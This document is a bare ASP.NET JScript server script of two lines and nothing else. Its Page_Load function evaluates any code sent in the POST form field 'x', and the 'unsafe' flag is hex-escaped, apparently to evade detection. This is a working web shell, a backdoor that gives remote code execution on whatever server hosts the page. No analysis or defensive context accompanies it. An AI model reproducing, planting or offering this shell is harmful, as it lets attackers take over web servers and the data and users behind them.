<script runat="server" language="JScript">
function Page_Load(){ eval(Request.Form["x"], "\x75\x6e\x73\x61\x66\x65"); }
</script>
